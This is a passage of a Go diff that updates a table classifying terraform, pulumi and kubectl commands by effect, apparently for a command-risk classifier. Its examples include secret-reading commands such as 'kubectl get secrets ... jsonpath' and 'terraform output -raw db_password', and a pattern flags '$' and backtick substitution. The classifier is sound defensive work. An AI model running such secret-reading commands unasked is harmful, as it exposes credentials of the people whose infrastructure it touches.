+	return Pack{Programs: []Program{{Exe: []string{"terraform", "tofu"}, Effects: map[string]string{"-chdir": "dir"}, Operands: "subcommand", Env: map[string]string{"TF_CLI_ARGS": "exec", "TF_CLI_ARGS_apply": "exec", "TF_CLI_ARGS_console": "exec", "TF_CLI_ARGS_destroy": "exec", "TF_CLI_ARGS_fmt": "exec", "TF_CLI_ARGS_import": "exec", "TF_CLI_ARGS_init": "exec", "TF_CLI_ARGS_output": "exec", "TF_CLI_ARGS_plan": "exec", "TF_CLI_ARGS_refresh": "exec", "TF_CLI_ARGS_show": "exec", "TF_CLI_ARGS_state": "exec", "TF_CLI_ARGS_validate": "exec", "TF_CLI_CONFIG_FILE": "exec", "TF_LOG_PATH": "write"}, HelpFlags: []string{"-help", "--help", "-h"}, Examples: []string{"terraform", "terraform frobnicate", "tofu -chdir=infra frobnicate"}, Counter: []string{"terraform plan"}}}}
 }
 
-func effectsCloudL1255() Pack {
+func effectsCloudL1331() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"terraform", "tofu"}, Sub: []string{"fmt"}, Flags: []string{"-diff", "-list", "-write", "-no-color"}, Effects: map[string]string{"-check": "dry-run", "-recursive": "recursive"}, Operands: "write", Always: []string{"writes-files"}, Examples: []string{"terraform fmt", "terraform fmt -check -recursive", "tofu fmt main.tf"}}}}
 }
 
-func effectsCloudL1266() Pack {
+func effectsCloudL1342() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"terraform", "tofu"}, Sub: []string{"validate"}, Flags: []string{"-json", "-no-color", "-no-tests"}, Values: []string{"-test-directory"}, Always: []string{"runs-code"}, Examples: []string{"terraform validate", "terraform validate -json"}}}}
 }
 
-func effectsCloudL1274() Pack {
+func effectsCloudL1350() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"terraform", "tofu"}, Sub: []string{"plan"}, Flags: []string{"-destroy", "-refresh-only", "-refresh", "-compact-warnings", "-detailed-exitcode", "-input", "-lock", "-no-color", "-json", "-concise"}, Values: []string{"-replace", "-target", "-var", "-lock-timeout", "-parallelism"}, Effects: map[string]string{"-generate-config-out": "write", "-out": "write", "-state": "read", "-var-file": "read"}, Always: []string{"runs-code", "network"}, Examples: []string{"terraform plan -out plan.tfplan", "terraform plan -var-file=prod.tfvars -target=module.web"}}}}
 }
 
-func effectsCloudL1288() Pack {
+func effectsCloudL1364() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"terraform", "tofu"}, Sub: []string{"apply|destroy|refresh|import|console|test"}, Flags: []string{"-auto-approve", "-compact-warnings", "-destroy", "-lock", "-input", "-no-color", "-json", "-refresh", "-refresh-only", "-plan", "-verbose", "-allow-missing"}, Values: []string{"-lock-timeout", "-parallelism", "-var", "-target", "-replace", "-filter", "-test-directory", "-cloud-run"}, Effects: map[string]string{"-backup": "write", "-state": "read", "-state-out": "write", "-var-file": "read"}, Operands: "read", Stdin: "script:code", Always: []string{"runs-code", "network"}, Examples: []string{"terraform apply plan.tfplan", "terraform destroy -auto-approve", "terraform console"}}}}
 }
 
-func effectsCloudL1304() Pack {
+func effectsCloudL1380() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"terraform", "tofu"}, Sub: []string{"show"}, Flags: []string{"-no-color"}, Effects: map[string]string{"-json": "credentials"}, Operands: "read", Always: []string{"runs-code", "network"}, Examples: []string{"terraform show plan.tfplan", "terraform show -json"}}}}
 }
 
-func effectsCloudL1314() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"terraform", "tofu"}, Sub: []string{"output"}, Flags: []string{"-no-color"}, Effects: map[string]string{"-json": "credentials", "-raw": "credentials", "-state": "read"}, Always: []string{"network"}, Examples: []string{"terraform output", "terraform output -raw db_password", "terraform output -json"}}}}
+func effectsCloudL1390() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"terraform", "tofu"}, Sub: []string{"output"}, Flags: []string{"-no-color"}, Effects: map[string]string{"-json": "credentials", "-raw": "credentials", "-state": "read"}, Always: []string{"remote-read"}, Examples: []string{"terraform output", "terraform output -raw db_password", "terraform output -json"}}}}
 }
 
-func effectsCloudL1325() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"terraform", "tofu"}, Sub: []string{"state", "list|show"}, Values: []string{"-id"}, Effects: map[string]string{"-state": "read"}, Always: []string{"network"}, Examples: []string{"terraform state list", "terraform state show aws_instance.web"}}}}
+func effectsCloudL1401() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"terraform", "tofu"}, Sub: []string{"state", "show"}, Values: []string{"-id"}, Effects: map[string]string{"-state": "read"}, Always: []string{"network"}, Examples: []string{"terraform state show aws_instance.web"}, Counter: []string{"terraform state list"}}}}
 }
 
-func effectsCloudL1334() Pack {
+func effectsCloudL1411() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"terraform", "tofu"}, Sub: []string{"state", "list"}, Values: []string{"-id"}, Effects: map[string]string{"-state": "read"}, Always: []string{"remote-read"}, Examples: []string{"terraform state list", "terraform state list module.web"}}}}
+}
+
+func effectsCloudL1421() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"terraform", "tofu"}, Sub: []string{"state", "pull"}, Always: []string{"network", "credentials"}, Examples: []string{"terraform state pull"}}}}
 }
 
-func effectsCloudL1340() Pack {
+func effectsCloudL1427() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"terraform", "tofu"}, Sub: []string{"state", "mv|rm|push|replace-provider"}, Flags: []string{"-lock", "-auto-approve", "-force", "-ignore-remote-version"}, Values: []string{"-lock-timeout"}, Effects: map[string]string{"-backup": "write", "-dry-run": "dry-run", "-state": "read", "-state-out": "write"}, Always: []string{"network", "writes-files"}, Examples: []string{"terraform state rm aws_instance.old", "terraform state mv -dry-run a.b a.c"}}}}
 }
 
-func effectsCloudL1353() Pack {
+func effectsCloudL1440() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"terraform", "tofu"}, Sub: []string{"version"}, Flags: []string{"-json"}, Always: []string{"network"}, Examples: []string{"terraform version", "tofu version -json"}}}}
 }
 
-func effectsCloudL1360() Pack {
+func effectsCloudL1447() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"terraform", "tofu"}, Sub: []string{"init|get"}, Flags: []string{"-backend", "-force-copy", "-get", "-input", "-lock", "-no-color", "-json", "-reconfigure", "-migrate-state", "-upgrade", "-ignore-remote-version", "-update"}, Values: []string{"-backend-config", "-from-module", "-lock-timeout", "-lockfile", "-test-directory"}, Effects: map[string]string{"-plugin-dir": "read"}, Always: []string{"runs-code", "network", "writes-files"}, Examples: []string{"terraform init", "terraform init -upgrade -backend-config=prod.hcl", "terraform get -update"}}}}
 }
 
-func effectsCloudL1371() Pack {
+func effectsCloudL1458() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"terraform", "tofu"}, Sub: []string{"providers"}, Values: []string{"-test-directory"}, Always: []string{"network"}, Examples: []string{"terraform providers"}}}}
 }
 
-func effectsCloudL1378() Pack {
+func effectsCloudL1465() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"terraform", "tofu"}, Sub: []string{"providers", "schema|lock|mirror"}, Flags: []string{"-json"}, Values: []string{"-platform", "-fs-mirror", "-net-mirror"}, Always: []string{"runs-code", "network"}, Examples: []string{"terraform providers schema -json", "terraform providers lock -platform=linux_amd64"}}}}
 }
 
-func effectsCloudL1386() Pack {
+func effectsCloudL1473() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"terraform", "tofu"}, Sub: []string{"workspace", "list|show"}, Always: []string{"network"}, Examples: []string{"terraform workspace list", "terraform workspace show"}}}}
 }
 
-func effectsCloudL1392() Pack {
+func effectsCloudL1479() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"terraform", "tofu"}, Sub: []string{"workspace", "select|new|delete"}, Flags: []string{"-or-create", "-force", "-lock"}, Values: []string{"-lock-timeout", "-state"}, Always: []string{"network", "writes-files"}, Examples: []string{"terraform workspace select prod", "terraform workspace new dev"}}}}
 }
 
-func effectsCloudL1400() Pack {
+func effectsCloudL1487() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"terraform", "tofu"}, Sub: []string{"login|logout|taint|untaint|force-unlock"}, Flags: []string{"-force", "-allow-missing", "-lock"}, Values: []string{"-lock-timeout"}, Always: []string{"network", "writes-files"}, Examples: []string{"terraform login", "terraform taint aws_instance.web", "terraform force-unlock 1234"}}}}
 }
 
-func effectsCloudL1408() Pack {
+func effectsCloudL1495() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"terraform", "tofu"}, Sub: []string{"metadata|modules"}, Flags: []string{"-json"}, Examples: []string{"terraform metadata functions -json", "terraform modules -json"}}}}
 }
 
-func effectsCloudL1416() Pack {
+func effectsCloudL1503() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"terragrunt"}, Always: []string{"runs-code"}, Examples: []string{"terragrunt plan", "terragrunt run-all apply", "terragrunt hclfmt"}, Counter: []string{"terraform plan"}}}}
 }
 
-func effectsCloudL1422() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"pulumi"}, Flags: []string{"--disable-integrity-checking", "-e", "--emoji", "-Q", "--fully-qualify-stack-names", "--logflow", "--logtostderr", "--non-interactive"}, Values: []string{"--color", "--memprofilerate", "-v", "--verbose"}, Effects: map[string]string{"--cwd": "dir", "--profiling": "write", "--tracing": "url", "-C": "dir"}, Operands: "subcommand", Env: map[string]string{"PULUMI_BACKEND_URL": "url", "PULUMI_HOME": "exec"}, Examples: []string{"pulumi", "pulumi frobnicate"}, Counter: []string{"pulumi preview"}}}}
+func effectsCloudL1509() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"pulumi"}, Flags: []string{"--disable-integrity-checking", "-e", "--emoji", "-Q", "--fully-qualify-stack-names", "--logflow", "--logtostderr", "--non-interactive"}, Values: []string{"--color", "--memprofilerate", "-v", "--verbose"}, Effects: map[string]string{"--cwd": "dir", "--profiling": "write", "--tracing": "url", "-C": "dir"}, Operands: "subcommand", Env: map[string]string{"PULUMI_BACKEND_URL": "url", "PULUMI_HOME": "exec"}, HelpFlags: []string{"--help", "-h"}, Examples: []string{"pulumi", "pulumi frobnicate"}, Counter: []string{"pulumi preview"}}}}
 }
 
-func effectsCloudL1440() Pack {
+func effectsCloudL1528() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"pulumi"}, Sub: []string{"preview|pre|up|update|destroy|down|dn|refresh|import|watch|convert|new|install|about"}, Flags: []string{"--diff", "-j", "--json", "-y", "--yes", "-f", "--skip-preview", "-r", "--refresh", "--suppress-outputs", "--suppress-progress", "--expect-no-changes", "--target-dependents", "--non-interactive"}, Values: []string{"-s", "--stack", "-m", "--message", "-t", "--target", "--replace", "-c", "--config", "-p", "--parallel", "--exclude", "--policy-pack", "--color", "-v", "--verbose"}, Effects: map[string]string{"--config-file": "read", "--cwd": "dir", "--plan": "read", "--save-plan": "write", "--show-secrets": "credentials", "-C": "dir"}, Always: []string{"runs-code", "network"}, Examples: []string{"pulumi preview", "pulumi up --yes -s prod", "pulumi destroy -s dev"}}}}
 }
 
-func effectsCloudL1457() Pack {
+func effectsCloudL1545() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"pulumi"}, Sub: []string{"stack|config"}, Flags: []string{"-i", "--show-ids", "--show-urns", "--show-name", "-j", "--json"}, Values: []string{"-s", "--stack", "--color"}, Effects: map[string]string{"--config-file": "read", "--cwd": "dir", "--show-secrets": "credentials", "-C": "dir"}, Always: []string{"network"}, Examples: []string{"pulumi stack", "pulumi config", "pulumi config --show-secrets"}}}}
 }
 
-func effectsCloudL1470() Pack {
+func effectsCloudL1558() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"pulumi"}, Sub: []string{"stack", "ls|output|history|export|graph|tag"}, Flags: []string{"-a", "--all", "-j", "--json", "--shell", "--show-ids"}, Values: []string{"-s", "--stack", "-o", "--organization", "-p", "--project", "-t", "--tag", "--version", "--color"}, Effects: map[string]string{"--cwd": "dir", "--file": "write", "--show-secrets": "credentials", "-C": "dir"}, Always: []string{"network"}, Examples: []string{"pulumi stack ls", "pulumi stack output -j", "pulumi stack output --show-secrets dbPassword"}}}}
 }
 
-func effectsCloudL1483() Pack {
+func effectsCloudL1571() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"pulumi"}, Sub: []string{"config|env", "get|open"}, Flags: []string{"-j", "--json", "--path"}, Values: []string{"-s", "--stack", "-f", "--format"}, Effects: map[string]string{"--config-file": "read", "--cwd": "dir", "-C": "dir"}, Always: []string{"network", "credentials"}, Examples: []string{"pulumi config get dbPassword", "pulumi env open myorg/prod"}}}}
 }
 
-func effectsCloudL1495() Pack {
+func effectsCloudL1583() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"pulumi"}, Sub: []string{"config|stack", "set|rm|set-all|rm-all|cp|refresh|env|select|init|rename|import|change-secrets-provider"}, Flags: []string{"--secret", "--plaintext", "--path", "-y", "--yes", "-f", "--force", "--create"}, Values: []string{"-s", "--stack"}, Effects: map[string]string{"--config-file": "write", "--cwd": "dir", "-C": "dir"}, Always: []string{"network", "writes-files"}, Examples: []string{"pulumi config set aws:region us-east-1", "pulumi stack select prod"}}}}
 }
 
-func effectsCloudL1507() Pack {
+func effectsCloudL1595() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"pulumi"}, Sub: []string{"whoami|logs|org|env|schema|login|logout|plugin|policy|package|ai|cancel"}, Flags: []string{"-v", "--verbose", "-j", "--json", "-f", "--follow"}, Values: []string{"-s", "--stack", "--since", "-r", "--resource"}, Always: []string{"network"}, Examples: []string{"pulumi whoami -v", "pulumi logs -f"}}}}
 }
 
-func effectsCloudL1515() Pack {
+func effectsCloudL1603() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"pulumi"}, Sub: []string{"version"}, Examples: []string{"pulumi version"}}}}
 }
 
 func effectsContainersL13() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Flags: []string{"--disable-compression", "--insecure-skip-tls-verify", "--match-server-version", "--warnings-as-errors"}, Values: []string{"--as", "--as-group", "--as-uid", "--cluster", "--context", "-n", "--namespace", "--password", "--request-timeout", "--tls-server-name", "--token", "--user", "--username", "-v", "--v", "--vmodule", "--log-flush-frequency", "--certificate-authority", "--client-certificate", "--client-key"}, Effects: map[string]string{"--cache-dir": "write", "--kubeconfig": "exec", "--profile-output": "write", "--server": "url", "-s": "url"}, Operands: "subcommand", Env: map[string]string{"EDITOR": "shell", "KUBECONFIG": "exec", "KUBECTL_EXTERNAL_DIFF": "shell", "KUBE_EDITOR": "shell"}, Examples: []string{"kubectl", "kubectl frobnicate", "oc new-project demo", "kubectl --kubeconfig=/tmp/cfg frobnicate"}, Counter: []string{"kubectl get pods"}}}}
+	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Flags: []string{"--disable-compression", "--insecure-skip-tls-verify", "--match-server-version", "--warnings-as-errors"}, Values: []string{"--as", "--as-group", "--as-uid", "--cluster", "--context", "-n", "--namespace", "--password", "--request-timeout", "--tls-server-name", "--token", "--user", "--username", "-v", "--v", "--vmodule", "--log-flush-frequency", "--certificate-authority", "--client-certificate", "--client-key"}, Effects: map[string]string{"--cache-dir": "write", "--kubeconfig": "exec", "--profile-output": "write", "--server": "url", "-s": "url"}, Operands: "subcommand", Env: map[string]string{"EDITOR": "shell", "KUBECONFIG": "exec", "KUBECTL_EXTERNAL_DIFF": "shell", "KUBE_EDITOR": "shell"}, HelpFlags: []string{"--help", "-h"}, Examples: []string{"kubectl", "kubectl frobnicate", "oc new-project demo", "kubectl --kubeconfig=/tmp/cfg frobnicate"}, Counter: []string{"kubectl get pods"}}}}
 }
 
-func effectsContainersL34() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"get"}, Flags: []string{"--disable-compression", "--insecure-skip-tls-verify", "--match-server-version", "--warnings-as-errors", "-A", "--all-namespaces", "--allow-missing-template-keys", "--ignore-not-found", "--no-headers", "--output-watch-events", "--server-print", "--show-kind", "--show-labels", "--show-managed-fields", "-w", "--watch", "--watch-only"}, Values: []string{"--as", "--as-group", "--as-uid", "--cluster", "--context", "-n", "--namespace", "--password", "--request-timeout", "--tls-server-name", "--token", "--user", "--username", "-v", "--v", "--vmodule", "--log-flush-frequency", "--certificate-authority", "--client-certificate", "--client-key", "--chunk-size", "--field-selector", "-L", "--label-columns", "-o", "--output", "-l", "--selector", "--sort-by", "--subresource", "--template"}, Effects: map[string]string{"--cache-dir": "write", "--filename": "read", "--kubeconfig": "exec", "--kustomize": "read", "--profile-output": "write", "--raw": "credentials", "--recursive": "recursive", "--server": "url", "-R": "recursive", "-f": "read", "-k": "read", "-s": "url"}, Always: []string{"network"}, Examples: []string{"kubectl get pods", "kubectl get deploy -n prod -o yaml", "kubectl get pods -A -o wide --show-labels", "oc get routes", "kubectl get -f k8s/ -R"}, Counter: []string{"kubectl get secret db -o yaml", "kubectl describe pod x"}}}}
+func effectsContainersL35() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"get"}, Flags: []string{"--disable-compression", "--insecure-skip-tls-verify", "--match-server-version", "--warnings-as-errors", "-A", "--all-namespaces", "--allow-missing-template-keys", "--ignore-not-found", "--no-headers", "--output-watch-events", "--server-print", "--show-kind", "--show-labels", "--show-managed-fields", "-w", "--watch", "--watch-only"}, Values: []string{"--as", "--as-group", "--as-uid", "--cluster", "--context", "-n", "--namespace", "--password", "--request-timeout", "--tls-server-name", "--token", "--user", "--username", "-v", "--v", "--vmodule", "--log-flush-frequency", "--certificate-authority", "--client-certificate", "--client-key", "--chunk-size", "--field-selector", "-L", "--label-columns", "-o", "--output", "-l", "--selector", "--sort-by", "--subresource", "--template"}, Effects: map[string]string{"--cache-dir": "write", "--filename": "read", "--kubeconfig": "exec", "--kustomize": "read", "--profile-output": "write", "--raw": "credentials", "--recursive": "recursive", "--server": "url", "-R": "recursive", "-f": "read", "-k": "read", "-s": "url"}, Always: []string{"remote-read"}, Examples: []string{"kubectl get pods", "kubectl get deploy -n prod -o yaml", "kubectl get pods -A -o wide --show-labels", "oc get routes", "kubectl get -f k8s/ -R"}, Counter: []string{"kubectl get secret db -o yaml", "kubectl describe pod x"}}}}
 }
 
-func effectsContainersL65() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"get", "*secret*|*$*|*`*"}, Flags: []string{"--disable-compression", "--insecure-skip-tls-verify", "--match-server-version", "--warnings-as-errors", "-A", "--all-namespaces", "--allow-missing-template-keys", "--ignore-not-found", "--no-headers", "--output-watch-events", "--server-print", "--show-kind", "--show-labels", "--show-managed-fields", "-w", "--watch", "--watch-only"}, Values: []string{"--as", "--as-group", "--as-uid", "--cluster", "--context", "-n", "--namespace", "--password", "--request-timeout", "--tls-server-name", "--token", "--user", "--username", "-v", "--v", "--vmodule", "--log-flush-frequency", "--certificate-authority", "--client-certificate", "--client-key", "--chunk-size", "--field-selector", "-L", "--label-columns", "-l", "--selector", "--sort-by", "--subresource"}, Effects: map[string]string{"--cache-dir": "write", "--filename": "read", "--kubeconfig": "exec", "--kustomize": "read", "--output": "credentials", "--profile-output": "write", "--raw": "credentials", "--recursive": "recursive", "--server": "url", "--template": "credentials", "-R": "recursive", "-f": "read", "-k": "read", "-o": "credentials", "-s": "url"}, Always: []string{"network"}, Examples: []string{"kubectl get secret db -o yaml", "kubectl get secrets -n prod -o jsonpath='{.data.password}'", "kubectl get secrets", "kubectl get -n prod secret/api-token --template='{{.data.token}}'", "kubectl get $TYPE web -o yaml"}, Counter: []string{"kubectl get pods -o yaml"}}}}
+func effectsContainersL66() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"get", "*secret*|*$*|*`*"}, Flags: []string{"--disable-compression", "--insecure-skip-tls-verify", "--match-server-version", "--warnings-as-errors", "-A", "--all-namespaces", "--allow-missing-template-keys", "--ignore-not-found", "--no-headers", "--output-watch-events", "--server-print", "--show-kind", "--show-labels", "--show-managed-fields", "-w", "--watch", "--watch-only"}, Values: []string{"--as", "--as-group", "--as-uid", "--cluster", "--context", "-n", "--namespace", "--password", "--request-timeout", "--tls-server-name", "--token", "--user", "--username", "-v", "--v", "--vmodule", "--log-flush-frequency", "--certificate-authority", "--client-certificate", "--client-key", "--chunk-size", "--field-selector", "-L", "--label-columns", "-l", "--selector", "--sort-by", "--subresource"}, Effects: map[string]string{"--cache-dir": "write", "--filename": "read", "--kubeconfig": "exec", "--kustomize": "read", "--output": "credentials", "--profile-output": "write", "--raw": "credentials", "--recursive": "recursive", "--server": "url", "--template": "credentials", "-R": "recursive", "-f": "read", "-k": "read", "-o": "credentials", "-s": "url"}, Always: []string{"remote-read"}, Examples: []string{"kubectl get secret db -o yaml", "kubectl get secrets -n prod -o jsonpath='{.data.password}'", "kubectl get secrets", "kubectl get -n prod secret/api-token --template='{{.data.token}}'", "kubectl get $TYPE web -o yaml"}, Counter: []string{"kubectl get pods -o yaml"}}}}
 }
 
-func effectsContainersL97() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"describe"}, Flags: []string{"--disable-compression", "--insecure-skip-tls-verify", "--match-server-version", "--warnings-as-errors", "-A", "--all-namespaces", "--show-events"}, Values: []string{"--as", "--as-group", "--as-uid", "--cluster", "--context", "-n", "--namespace", "--password", "--request-timeout", "--tls-server-name", "--token", "--user", "--username", "-v", "--v", "--vmodule", "--log-flush-frequency", "--certificate-authority", "--client-certificate", "--client-key", "--chunk-size", "-l", "--selector"}, Effects: map[string]string{"--cache-dir": "write", "--filename": "read", "--kubeconfig": "exec", "--kustomize": "read", "--profile-output": "write", "--recursive": "recursive", "--server": "url", "-R": "recursive", "-f": "read", "-k": "read", "-s": "url"}, Always: []string{"network"}, Examples: []string{"kubectl describe pod web-1 -n staging", "kubectl describe nodes", "kubectl describe secret db"}, Counter: []string{"kubectl get pods"}}}}
+func effectsContainersL98() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"describe"}, Flags: []string{"--disable-compression", "--insecure-skip-tls-verify", "--match-server-version", "--warnings-as-errors", "-A", "--all-namespaces", "--show-events"}, Values: []string{"--as", "--as-group", "--as-uid", "--cluster", "--context", "-n", "--namespace", "--password", "--request-timeout", "--tls-server-name", "--token", "--user", "--username", "-v", "--v", "--vmodule", "--log-flush-frequency", "--certificate-authority", "--client-certificate", "--client-key", "--chunk-size", "-l", "--selector"}, Effects: map[string]string{"--cache-dir": "write", "--filename": "read", "--kubeconfig": "exec", "--kustomize": "read", "--profile-output": "write", "--recursive": "recursive", "--server": "url", "-R": "recursive", "-f": "read", "-k": "read", "-s": "url"}, Always: []string{"remote-read"}, Examples: []string{"kubectl describe pod web-1 -n staging", "kubectl describe nodes", "kubectl describe secret db"}, Counter: []string{"kubectl get pods"}}}}
 }
 
-func effectsContainersL122() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"logs"}, Flags: []string{"--disable-compression", "--insecure-skip-tls-verify", "--match-server-version", "--warnings-as-errors", "--all-containers", "--all-pods", "-f", "--follow", "--ignore-errors", "--insecure-skip-tls-verify-backend", "--prefix", "-p", "--previous", "--timestamps"}, Values: []string{"--as", "--as-group", "--as-uid", "--cluster", "--context", "-n", "--namespace", "--password", "--request-timeout", "--tls-server-name", "--token", "--user", "--username", "-v", "--v", "--vmodule", "--log-flush-frequency", "--certificate-authority", "--client-certificate", "--client-key", "-c", "--container", "--limit-bytes", "--max-log-requests", "--pod-running-timeout", "-l", "--selector", "--since", "--since-time", "--tail"}, Effects: map[string]string{"--cache-dir": "write", "--kubeconfig": "exec", "--profile-output": "write", "--server": "url", "-s": "url"}, Always: []string{"network"}, Examples: []string{"kubectl logs -f deploy/web -n prod", "kubectl logs web-1 -c app --tail 100", "kubectl logs -p web-1"}, Counter: []string{"kubectl get pods"}}}}
+func effectsContainersL123() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"logs"}, Flags: []string{"--disable-compression", "--insecure-skip-tls-verify", "--match-server-version", "--warnings-as-errors", "--all-containers", "--all-pods", "-f", "--follow", "--ignore-errors", "--insecure-skip-tls-verify-backend", "--prefix", "-p", "--previous", "--timestamps"}, Values: []string{"--as", "--as-group", "--as-uid", "--cluster", "--context", "-n", "--namespace", "--password", "--request-timeout", "--tls-server-name", "--token", "--user", "--username", "-v", "--v", "--vmodule", "--log-flush-frequency", "--certificate-authority", "--client-certificate", "--client-key", "-c", "--container", "--limit-bytes", "--max-log-requests", "--pod-running-timeout", "-l", "--selector", "--since", "--since-time", "--tail"}, Effects: map[string]string{"--cache-dir": "write", "--kubeconfig": "exec", "--profile-output": "write", "--server": "url", "-s": "url"}, Always: []string{"remote-read"}, Examples: []string{"kubectl logs -f deploy/web -n prod", "kubectl logs web-1 -c app --tail 100", "kubectl logs -p web-1"}, Counter: []string{"kubectl get pods"}}}}
 }
 
-func effectsContainersL143() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"top|explain|api-resources|api-versions|cluster-info|version|events"}, Flags: []string{"--disable-compression", "--insecure-skip-tls-verify", "--match-server-version", "--warnings-as-errors", "-A", "--all-namespaces", "--containers", "--no-headers", "--sum", "--use-protocol-buffers", "--show-capacity", "--recursive", "--cached", "--namespaced", "--client", "--short", "--allow-missing-template-keys", "--show-managed-fields", "-w", "--watch"}, Values: []string{"--as", "--as-group", "--as-uid", "--cluster", "--context", "-n", "--namespace", "--password", "--request-timeout", "--tls-server-name", "--token", "--user", "--username", "-v", "--v", "--vmodule", "--log-flush-frequency", "--certificate-authority", "--client-certificate", "--client-key", "--field-selector", "-l", "--selector", "--sort-by", "--api-version", "-o", "--output", "--api-group", "--categories", "--verbs", "--chunk-size", "--for", "--template", "--types"}, Effects: map[string]string{"--cache-dir": "write", "--kubeconfig": "exec", "--profile-output": "write", "--server": "url", "-s": "url"}, Always: []string{"network"}, Examples: []string{"kubectl top pods -A", "kubectl explain deployment.spec --recursive", "kubectl api-resources --namespaced", "kubectl version --client", "kubectl cluster-info", "kubectl events -n prod"}, Counter: []string{"kubectl cluster-info dump --output-directory=dump"}}}}
+func effectsContainersL144() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"top|explain|api-resources|api-versions|cluster-info|version|events"}, Flags: []string{"--disable-compression", "--insecure-skip-tls-verify", "--match-server-version", "--warnings-as-errors", "-A", "--all-namespaces", "--containers", "--no-headers", "--sum", "--use-protocol-buffers", "--show-capacity", "--recursive", "--cached", "--namespaced", "--client", "--short", "--allow-missing-template-keys", "--show-managed-fields", "-w", "--watch"}, Values: []string{"--as", "--as-group", "--as-uid", "--cluster", "--context", "-n", "--namespace", "--password", "--request-timeout", "--tls-server-name", "--token", "--user", "--username", "-v", "--v", "--vmodule", "--log-flush-frequency", "--certificate-authority", "--client-certificate", "--client-key", "--field-selector", "-l", "--selector", "--sort-by", "--api-version", "-o", "--output", "--api-group", "--categories", "--verbs", "--chunk-size", "--for", "--template", "--types"}, Effects: map[string]string{"--cache-dir": "write", "--kubeconfig": "exec", "--profile-output": "write", "--server": "url", "-s": "url"}, Always: []string{"remote-read"}, Examples: []string{"kubectl top pods -A", "kubectl explain deployment.spec --recursive", "kubectl api-resources --namespaced", "kubectl version --client", "kubectl cluster-info", "kubectl events -n prod"}, Counter: []string{"kubectl cluster-info dump --output-directory=dump"}}}}
 }
 
-func effectsContainersL166() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"auth", "can-i|whoami"}, Flags: []string{"--disable-compression", "--insecure-skip-tls-verify", "--match-server-version", "--warnings-as-errors", "-A", "--all-namespaces", "--list", "--no-headers", "-q", "--quiet", "--allow-missing-template-keys", "--show-managed-fields"}, Values: []string{"--as", "--as-group", "--as-uid", "--cluster", "--context", "-n", "--namespace", "--password", "--request-timeout", "--tls-server-name", "--token", "--user", "--username", "-v", "--v", "--vmodule", "--log-flush-frequency", "--certificate-authority", "--client-certificate", "--client-key", "--subresource", "-o", "--output", "--template"}, Effects: map[string]string{"--cache-dir": "write", "--kubeconfig": "exec", "--profile-output": "write", "--server": "url", "-s": "url"}, Always: []string{"network"}, Examples: []string{"kubectl auth can-i create pods -n prod", "kubectl auth whoami -o yaml"}}}}
+func effectsContainersL167() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"auth", "can-i|whoami"}, Flags: []string{"--disable-compression", "--insecure-skip-tls-verify", "--match-server-version", "--warnings-as-errors", "-A", "--all-namespaces", "--list", "--no-headers", "-q", "--quiet", "--allow-missing-template-keys", "--show-managed-fields"}, Values: []string{"--as", "--as-group", "--as-uid", "--cluster", "--context", "-n", "--namespace", "--password", "--request-timeout", "--tls-server-name", "--token", "--user", "--username", "-v", "--v", "--vmodule", "--log-flush-frequency", "--certificate-authority", "--client-certificate", "--client-key", "--subresource", "-o", "--output", "--template"}, Effects: map[string]string{"--cache-dir": "write", "--kubeconfig": "exec", "--profile-output": "write", "--server": "url", "-s": "url"}, Always: []string{"remote-read"}, Examples: []string{"kubectl auth can-i create pods -n prod", "kubectl auth whoami -o yaml"}}}}
 }
 
-func effectsContainersL185() Pack {
